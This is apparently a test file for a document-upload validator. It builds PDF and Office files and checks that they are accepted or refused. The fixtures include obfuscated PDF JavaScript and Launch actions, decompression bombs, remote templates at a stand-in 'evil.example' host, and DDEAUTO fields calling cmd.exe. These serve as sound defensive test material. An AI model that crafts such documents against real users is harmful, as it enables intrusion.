import { deflateSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { zipOfParts } from '../../../../test/workbook.js';
import { documentProblem, type DocumentEnding } from './document-problem.js';

/** A PDF of these objects, with its table of places. */
function pdf(objects: string, tail = ''): Buffer {
  const body = Buffer.from(`%PDF-1.7\n${objects}\n`, 'latin1');
  const end = `xref\n0 1\n0000000000 65535 f \ntrailer << /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n${tail}`;
  return Buffer.concat([body, Buffer.from(end)]);
}
const catalog = '1 0 obj\n<< /Type /Catalog >>\nendobj';
const stream = (head: string, bytes: Buffer): string =>
  `2 0 obj\n<< ${head} /Length ${bytes.length} >>\nstream\n${bytes.toString('latin1')}\nendstream\nendobj`;

const mains = {
  docx: ['word/document.xml', 'wordprocessingml.document.main+xml'],
  xlsx: ['xl/workbook.xml', 'spreadsheetml.sheet.main+xml'],
  pptx: ['ppt/presentation.xml', 'presentationml.presentation.main+xml'],
} as const;

type Parts = Readonly<Record<string, string | Uint8Array>>;

/** A packed document of an office format, with these parts in the place of its own. */
function office(ending: keyof typeof mains, parts: Parts = {}): Buffer {
  const [main, type] = mains[ending];
  const own = {
    '[Content_Types].xml': `<Types><Override PartName="/${main}" ContentType="application/vnd.openxmlformats-officedocument.${type}"/></Types>`,
    [main]: '<?xml version="1.0"?><document></document>',
    ...parts,
  };
  return Buffer.from(
    zipSync(
      Object.fromEntries(
        Object.entries(own).map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part]),
      ),
    ),
  );
}

describe('S14: a document that is uploaded', () => {
  it.each<[string, DocumentEnding, Buffer]>([
    ['a PDF', 'pdf', pdf(catalog)],
    [
      'a PDF with words like those of a program in a text',
      'pdf',
      pdf(stream('', Buffer.from('/JavaScript /Launch'))),
    ],
    ['a PDF with some bytes behind its end', 'pdf', pdf(catalog, '\n\n')],
    [
      'a PDF of bundled objects',
      'pdf',
      pdf(stream('/Type /ObjStm /Filter /FlateDecode', deflateSync(catalog))),
    ],
    ['a text', 'docx', office('docx')],
    ['a table', 'xlsx', office('xlsx')],
    ['slides', 'pptx', office('pptx')],
    [
      'a text with a link that somebody may follow',
      'docx',
      office('docx', {
        'word/_rels/document.xml.rels':
          '<Relationships><Relationship Id="a" Type="http://x/hyperlink" Target="https://example.org" TargetMode="External"/></Relationships>',
      }),
    ],
  ])('is kept where it is %s', (_, ending, bytes) => {
    expect(documentProblem(ending, bytes)).toBeNull();
  });

  it.each<[string, string, DocumentEnding, Buffer]>([
    ['broken-document', 'a PDF that is cut off', 'pdf', pdf(catalog).subarray(0, 60)],
    ['broken-document', 'a PDF by its first bytes only', 'pdf', Buffer.from('%PDF-1.7 minutes')],
    [
      'broken-document',
      'a PDF whose end leads nowhere',
      'pdf',
      Buffer.from('%PDF-1.7\nx\nstartxref\n9\n%%EOF'),
    ],
    ['not-what-its-name-says', 'a page', 'pdf', Buffer.from('<html><script>1</script>')],
    ['holds-programs', 'a PDF with a script', 'pdf', pdf(`${catalog} << /S /JavaScript /JS (x) >>`)],
    [
      'holds-programs',
      'a PDF that starts a program',
      'pdf',
      pdf('1 0 obj << /S /Launch /F (x.exe) >> endobj'),
    ],
    [
      'holds-programs',
      'a PDF with a file in it',
      'pdf',
      pdf('1 0 obj << /Names << /EmbeddedFiles 2 0 R >> >> endobj'),
    ],
    ['holds-programs', 'a PDF that hides the name', 'pdf', pdf('1 0 obj << /S /J#61vaScript >> endobj')],
    [
      'holds-programs',
      'a PDF with a script in a bundle',
      'pdf',
      pdf(stream('/Type /ObjStm /Filter /FlateDecode', deflateSync('<< /S /JavaScript >>'))),
    ],
    [
      'unpacks-to-too-much',
      'a PDF whose bundle is a bomb',
      'pdf',
      pdf(stream('/Type /ObjStm /Filter /FlateDecode', deflateSync(Buffer.alloc(30_000_000)))),
    ],
    ['not-what-its-name-says', 'a text that calls itself a table', 'xlsx', office('docx')],
    ['not-what-its-name-says', 'a table that calls itself slides', 'pptx', office('xlsx')],
    [
      'broken-document',
      'packed, without a list of types',
      'docx',
      Buffer.from(zipSync({ 'word/document.xml': strToU8('<a/>') })),
    ],
    ['broken-document', 'a table that is cut off', 'xlsx', office('xlsx').subarray(0, 200)],
    [
      'broken-document',
      'a text whose body ends half-way',
      'docx',
      office('docx', { 'word/document.xml': '<document><p>' }),
    ],
    [
      'broken-document',
      'a text that declares entities',
      'docx',
      office('docx', { 'word/document.xml': '<!DOCTYPE a><a/>' }),
    ],
    ['holds-programs', 'a table with macros', 'xlsx', office('xlsx', { 'xl/vbaProject.bin': 'x' })],
    [
      'holds-programs',
      'a table with macros under another name',
      'xlsx',
      office('xlsx', {
        '[Content_Types].xml':
          '<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
      }),
    ],
    [
      'holds-programs',
      'slides with a program in them',
      'pptx',
      office('pptx', { 'ppt/embeddings/oleObject1.bin': 'MZ' }),
    ],
    [
      'holds-programs',
      'a text that fetches its template',
      'docx',
      office('docx', {
        'word/_rels/settings.xml.rels':
          '<Relationships><Relationship Id="a" Type="http://x/attachedTemplate" Target="https://example.org/a.dotm" TargetMode="External"/></Relationships>',
      }),
    ],
    ['old-or-protected', 'a text with a password', 'docx', Buffer.from('d0cf11e0a1b11ae1', 'hex')],
    [
      'unpacks-to-too-much',
      'a text that is a bomb',
      'docx',
      office('docx', { 'word/a.xml': 'x'.repeat(20_000_000) }),
    ],
    [
      'unpacks-to-too-much',
      'slides of too many parts',
      'pptx',
      office('pptx', Object.fromEntries(Array.from({ length: 1_100 }, (_, n) => [`ppt/${n}`, '']))),
    ],
  ])('is refused as %s where it is %s', (problem, _, ending, bytes) => {
    expect(documentProblem(ending, bytes)).toBe(problem);
  });

  const catalogThatRuns =
    '1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n';
  const script = '5 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n';
  const bundled = Buffer.from('5 0 <</S/JavaScript/JS(app.alert(1))>>');
  const packed = deflateSync(bundled);
  /** A bundle with one object, by the words of its head and of its stream. */
  const bundle = (head: string, bytes: Buffer, word = 'stream\n'): string =>
    `${catalogThatRuns}6 0 obj<<${head}/N 1/First 4/Length ${bytes.length}>>${word}${bytes.toString('latin1')}\nendstream endobj\n`;
  const hex = (bytes: Buffer): Buffer => Buffer.from(`${bytes.toString('hex')}>`);
  const flate = '/Type/ObjStm/Filter/FlateDecode';

  it.each<[string, string]>([
    ['in a bundle whose type is written by numbers', bundle('/Type/Obj#53tm/Filter/FlateDecode', packed)],
    ['in a bundle that says no type', bundle('/Filter/FlateDecode', packed)],
    ['in a bundle whose filter is a list of one', bundle('/Type/ObjStm/Filter[/FlateDecode]', packed)],
    ['in a bundle whose stream begins by half an end of line', bundle(flate, packed, 'stream\r')],
    ['in a bundle with a long head', bundle(`${flate}/X(${'A'.repeat(2_500)})`, packed)],
    [
      'in a bundle that seems to end where it begins',
      bundle('/Type/ObjStm', Buffer.concat([Buffer.from('endstream stream\n'), bundled])),
    ],
    ['in a bundle that is not packed', bundle('/Type/ObjStm', bundled)],
    [
      'in a bundle, within what looks like a text',
      bundle(flate, deflateSync(Buffer.from('5 1 (<</S/JavaScript>>)'))),
    ],
    ['in a bundle with a comment before its word', bundle(flate, packed, '%(<<\nstream\n')],
    ['behind a comment with the word of a stream', `${catalogThatRuns}% stream\n${script}% endstream\n`],
    [
      'behind a text with the word of a stream',
      `${catalogThatRuns}7 0 obj(a stream\n)endobj\n${script}8 0 obj(endstream)endobj\n`,
    ],
    ['in a comment, where the table of places may lead', `${catalogThatRuns}%${script}`],
    ['in a text, where the table of places may lead', `${catalogThatRuns}7 0 obj(${script})endobj\n`],
    [
      'in a stream, where the table of places may lead',
      `${catalogThatRuns}${stream('', Buffer.from(script))}`,
    ],
    [
      'whose action is a name of its own',
      `${catalogThatRuns}5 0 obj<</S 6 0 R>>endobj 6 0 obj/Java#53cript endobj\n`,
    ],
    [
      'behind a comment in the head of an object',
      `${catalogThatRuns}5%x\n0%x\nobj%x\n<</S%)\n/JavaScript>>endobj\n`,
    ],
    ['behind a bracket that nothing closes', `${catalogThatRuns}5 0 obj<</A ] > /S/JavaScript>>endobj\n`],
    [
      'that carries a file beside the list of them',
      `${catalog}5 0 obj<</Type/Filespec/EF<</F 6 0 R>>>>endobj\n`,
    ],
    [
      'that takes a stream from another file',
      `${catalog}5 0 obj<</F(x.bin)/Length 0>>stream\n\nendstream endobj\n`,
    ],
    ['with a form of another kind', `${catalog}5 0 obj<</AcroForm<</XFA 6 0 R>>>>endobj\n`],
    ...['SubmitForm', 'GoToR', 'GoToE', 'ImportData', 'Launch', 'Rendition', 'Movie', 'Sound'].map(
      (action): [string, string] => [
        `with the action ${action}`,
        `${catalog}5 0 obj<</S/${action}>>endobj\n`,
      ],
    ),
  ])('is refused where it is a PDF with a program %s', (_, objects) => {
    expect(documentProblem('pdf', pdf(objects))).toBe('holds-programs');
  });

  it.each<[string, string, string]>([
    [
      'broken-document',
      'packed twice',
      bundle('/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]', hex(packed)),
    ],
    ['broken-document', 'packed in another way', bundle('/Type/ObjStm/Filter/ASCIIHexDecode', hex(bundled))],
    ['broken-document', 'whose filter stands elsewhere', bundle('/Type/ObjStm/Filter 9 0 R', packed)],
    [
      'broken-document',
      'with two filters of one name',
      bundle('/Type/ObjStm/Filter/FlateDecode/Filter[]', packed),
    ],
    [
      'broken-document',
      'whose bytes are written as differences',
      bundle(`${flate}/DecodeParms<</Predictor 12>>`, packed),
    ],
    ['broken-document', 'that is cut off', bundle(flate, packed.subarray(0, 20))],
    [
      'broken-document',
      'whose length stands elsewhere',
      bundle('/Type/ObjStm', bundled).replace(/Length \d+/, 'Length 12 0 R'),
    ],
    ['broken-document', 'of arrays in arrays', `${catalog}5 0 obj${'['.repeat(1_000)}`],
    ['unpacks-to-too-much', 'of objects in one text', `${catalog}${'obj[('.repeat(200_000)}`],
    ['unpacks-to-too-much', 'of objects in one comment', `${catalog}${'obj%'.repeat(200_000)}`],
    ['old-or-protected', 'that is encrypted', `${catalog}trailer<</Root 1 0 R/Encrypt 8 0 R>>`],
    [
      'old-or-protected',
      'that is encrypted, by a stream of places',
      `${catalog}5 0 obj<</Type/XRef/#45ncrypt 8 0 R>>stream\nendstream endobj\n`,
    ],
  ])('is refused as %s where it is a PDF with a bundle %s', (problem, _, objects) => {
    expect(documentProblem('pdf', pdf(objects))).toBe(problem);
  });

  it.each<[string, string]>([
    [
      'with a bundle of texts that name what runs',
      bundle(flate, deflateSync(Buffer.from('5 0 <</URI(https://example.org/JS/Launch)>>'))),
    ],
    [
      'with addresses that name what runs',
      `${catalog}5 0 obj<</A<</S/URI/URI(https://example.org/EF/JS)>>>>endobj\n`,
    ],
    [
      'with a stream of places as programs write it',
      `${catalog}5 0 obj<</Type/XRef/DecodeParms<</Columns 4/Predictor 12>>/Filter/FlateDecode/W[1 2 1]/Length 9 0 R>>stream\nendstream endobj\n`,
    ],
  ])('is kept where it is a PDF %s', (_, objects) => {
    expect(documentProblem('pdf', pdf(objects))).toBeNull();
  });

  const schemas = 'http://schemas.openxmlformats.org';
  /** The relationships of a part, with one of a type. */
  const related = (type: string, mode = 'External', target = 'http://evil.example/x.dotm'): string =>
    `<?xml version="1.0"?><Relationships xmlns="${schemas}/package/2006/relationships"><Relationship Id="r1" Type="${schemas}/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
  const attached = related('attachedTemplate');
  const text = (inside: string): Parts => ({
    'word/document.xml': `<w:document xmlns:w="x"><w:body>${inside}</w:body></w:document>`,
  });
  const field = (...words: readonly string[]): string =>
    `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${words.map((word) => (word.startsWith('<') ? word : `<w:r><w:instrText>${word}</w:instrText></w:r>`)).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
  const typed = (type: string): Parts => ({
    '[Content_Types].xml': `<Types><Default Extension="bin" ContentType="${type}"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.${mains.docx[1]}"/></Types>`,
  });

  it.each<[string, Parts]>([
    [
      'a template whose type is written by numbers',
      { 'word/_rels/settings.xml.rels': related('attachedTempl&#97;te') },
    ],
    [
      'a template outside, by numbers',
      { 'word/_rels/settings.xml.rels': related('attachedTemplate', '&#69;xternal') },
    ],
    ['a template in a part of capital letters', { 'word/_rels/settings.xml.RELS': attached }],
    [
      'a template behind a sign in a text',
      { 'word/_rels/settings.xml.rels': attached.replace('Id=', 'Foo="a>b" Id=') },
    ],
    [
      'a template under a prefix',
      {
        'word/_rels/settings.xml.rels': attached
          .replaceAll('<Relationship', '<q:Relationship')
          .replace('</Relationships', '</q:Relationships')
          .replace('xmlns=', 'xmlns:q='),
      },
    ],
    [
      'a template that calls itself one of its own',
      { 'word/_rels/settings.xml.rels': related('attachedTemplate', 'Internal') },
    ],
    ['a picture from elsewhere', { 'word/_rels/document.xml.rels': related('image') }],
    [
      'a picture from a folder of the network',
      { 'word/_rels/document.xml.rels': related('image', 'Internal', '\\\\evil\\x.png') },
    ],
    [
      'a page of another kind',
      { 'word/_rels/document.xml.rels': related('aFChunk', 'Internal', 'a.xml'), 'word/a.xml': '<a/>' },
    ],
    [
      'a link that is a program',
      { 'word/_rels/document.xml.rels': related('hyperlink', 'External', 'javascript:a()') },
    ],
    ['macros under another name', { 'word/v.bin': 'x' }],
    [
      'macros that call themselves a picture',
      {
        'word/v.png': 'x',
        'word/_rels/document.xml.rels': related('x', 'Internal', 'v.png').replace(
          'officeDocument/2006/relationships/x',
          'vbaProject',
        ),
      },
    ],
    ['macros by the list of types', typed('application/vnd.ms-word.document.m&#97;croEnabled.main+xml')],
    ['a program', { 'word/embeddings/a.exe': 'MZ' }],
    ['a page', { 'word/a.html': '<html/>' }],
    ['a drawing with a script', { 'word/media/a.svg': '<svg><script>1</script></svg>' }],
    [
      'a field that asks a program',
      text('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe"/></w:p>'),
    ],
    ['a field that asks a program, in pieces', text(field('DD', 'EAUTO c:\\cmd.exe'))],
    ['a field that asks a program, unparsed', text(field('<w:instrText><![CDATA[ dde x]]></w:instrText>'))],
    ['a field whose word another field says', text(field(field(' QUOTE 68 68 69 '), 'c:\\cmd.exe'))],
    [
      'a field that takes in a picture from elsewhere',
      text(field(' INCLUDEPICTURE "http://evil.example/x.png" ')),
    ],
    [
      'a field of a part with another ending',
      { ...typed('a/b'), 'word/f.psmdcp': `<w:ftr xmlns:w="x">${field('DDE x')}</w:ftr>` },
    ],
    [
      'a workbook with macros in it',
      { 'word/embeddings/a.xlsx': office('xlsx', { 'xl/vbaProject.bin': 'x' }) },
    ],
  ])('is refused where it is a text with %s', (_, parts) => {
    expect(documentProblem('docx', office('docx', parts))).toBe('holds-programs');
  });

  it('is refused where a click on a slide starts a program', () => {
    const slide = '<p:sld xmlns:p="x"><a:hlinkClick xmlns:a="y" action="ppaction://program"/></p:sld>';
    expect(documentProblem('pptx', office('pptx', { 'ppt/slides/slide1.xml': slide }))).toBe(
      'holds-programs',
    );
  });

  it('is refused as broken where two parts are one, or a part is in letters that nobody expects', () => {
    const two = office('docx', { 'word/a.xml': '<a/>', 'word/A.xml': '<a/>' });
    expect(documentProblem('docx', two)).toBe('broken-document');
    const odd = office('docx', { 'word/document.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' });
    expect(documentProblem('docx', odd)).toBe('broken-document');
  });

  it.each(['docx', 'pptx', 'xlsx'] as const)(
    'S1: is refused as broken where a part of a .%s is in it twice, whichever of the two is read',
    (ending) => {
      const [main, type] = mains[ending];
      const types = `<Types><Override PartName="/${main}" ContentType="application/vnd.openxmlformats-officedocument.${type}"/></Types>`;
      const whole = [
        ['[Content_Types].xml', types],
        [main, '<a/>'],
        ['_rels/.rels', '<Relationships/>'],
      ] as const;
      expect(documentProblem(ending, zipOfParts(whole))).toBeNull();
      const evil =
        '<w:p xmlns:w="x"><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>';
      const again = [
        [main, evil],
        [main.toUpperCase(), '<a/>'],
        ['[Content_Types].xml', types],
        ['_rels/.rels', related('attachedTemplate', 'External', 'https://example.org/x.dotm')],
      ] as const;
      for (const part of again)
        for (const parts of [
          [part, ...whole],
          [...whole, part],
        ])
          expect(documentProblem(ending, zipOfParts(parts))).toBe('broken-document');
    },
  );

  it.each<[string, keyof typeof mains, Parts]>([
    [
      'a text as programs write it',
      'docx',
      {
        ...text(
          `<w:p><w:fldSimple w:instr=" PAGE "/>${field(' IF ', field(' PAGE '), ' = 1 "a" "b" ')}</w:p>`,
        ),
        ...typed('application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings'),
        ...{ 'word/printerSettings1.bin': 'x', 'word/media/image1.PNG': 'x', 'docProps/thumbnail.jpeg': 'x' },
        ...{
          '_rels/.rels': related('officeDocument', 'Internal', 'word/document.xml'),
          'customXml/item1.xml': '<a/>',
        },
      },
    ],
    [
      'slides with a chart and its workbook',
      'pptx',
      {
        'ppt/slides/slide1.xml': '<p:sld xmlns:p="x"/>',
        'ppt/charts/_rels/chart1.xml.rels': related('package', 'Internal', '../embeddings/a.xlsx'),
        'ppt/embeddings/a.xlsx': office('xlsx'),
      },
    ],
  ])('is kept where it is %s', (_, ending, parts) => {
    expect(documentProblem(ending, office(ending, parts))).toBeNull();
  });
});
